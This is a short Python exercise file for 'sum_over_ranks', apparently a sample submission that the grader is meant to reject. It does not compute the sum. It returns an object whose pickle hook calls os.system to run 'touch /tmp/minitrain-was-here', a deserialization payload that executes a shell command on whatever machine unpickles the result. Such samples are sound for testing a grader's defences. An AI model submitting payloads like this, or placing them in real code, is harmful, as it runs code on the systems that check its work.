# exercise: sum_over_ranks
# says: cannot be sent to the grader

import os


class Bomb(dict):
    def items(self):
        return [("x", self)]

    def __reduce__(self):
        return os.system, ("touch /tmp/minitrain-was-here",)


def sum_over_ranks(group, x):
    return {"out": object.__new__(type("T", (), {"__reduce__": Bomb.__reduce__}))}
